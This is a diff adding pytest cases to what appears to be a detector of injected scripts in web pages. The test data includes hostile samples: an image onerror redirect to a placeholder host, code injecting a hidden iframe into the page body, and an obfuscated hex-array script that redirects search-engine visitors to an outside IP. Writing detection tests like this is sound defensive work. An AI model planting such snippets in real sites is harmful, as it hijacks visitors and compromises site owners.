@@ -84,3 +84,48 @@ def test_a_window_of_one_dot(code: str, is_trick: bool) -> None:
 def test_a_background_that_is_a_script(rule: str, is_seen: bool) -> None:
     found = injected("", f"<style>{rule}</style>")
     assert bool(found & {"foreign_script", "script_trick"}) is is_seen
+
+
+def test_libraries_of_a_house_that_everybody_uses() -> None:
+    hosts = ("maxcdn.bootstrapcdn.com", "stackpath.bootstrapcdn.com", "oss.maxcdn.com")
+    assert (
+        injected("".join(f'<script src="https://{one}/a.js"></script>' for one in hosts)) == set()
+    )
+
+
+@pytest.mark.parametrize(
+    ("picture", "is_trick"),
+    [
+        ("<img src=x onerror=\"location='http://bc.example/'\">", True),
+        ("<img src=x onerror=\"location='/404.html'\">", False),
+        ("<img src=x onerror=\"this.src='http://tu.example/1.png'\">", False),
+    ],
+)
+def test_a_picture_that_fails_leads_away(picture: str, is_trick: bool) -> None:
+    assert ("script_trick" in injected(picture)) is is_trick
+
+
+@pytest.mark.parametrize(
+    ("code", "is_seen"),
+    [
+        (
+            "document.body.innerHTML=document.body.innerHTML+'<iframe src=\"http://m.example/\"></iframe>';",
+            True,
+        ),
+        ("$('body').append('<iframe src=\"http://m.example/\"></iframe>');", True),
+        (
+            "function bofang(){document.body.innerHTML+='<iframe src=\"http://m.example/\"></iframe>';}",
+            False,
+        ),
+        ("document.body.innerHTML+='<iframe src=\"/tq.html\"></iframe>';", False),
+    ],
+)
+def test_a_frame_put_to_the_text_of_the_page(code: str, is_seen: bool) -> None:
+    assert ("foreign_script" in injected(script(code))) is is_seen
+
+
+@pytest.mark.parametrize(("to", "is_trick"), [("http://203.0.113.4/a/", True), ("/zt/", False)])
+def test_words_of_a_list_by_hexadecimal_places(to: str, is_trick: bool) -> None:
+    words = ",".join(f'"{hexes(w)}"' for w in ("referrer", "test", "href", "location", to))
+    code = f"var _0x4=[{words}];var r=/\\.(sogou|baidu|so)\\./;var w=document[_0x4[0x0]];if(r[_0x4[0x1]](w)){{window[_0x4[0x3]][_0x4[0x2]]=_0x4[0x4]}}"
+    assert ("script_trick" in injected(script(code))) is is_trick
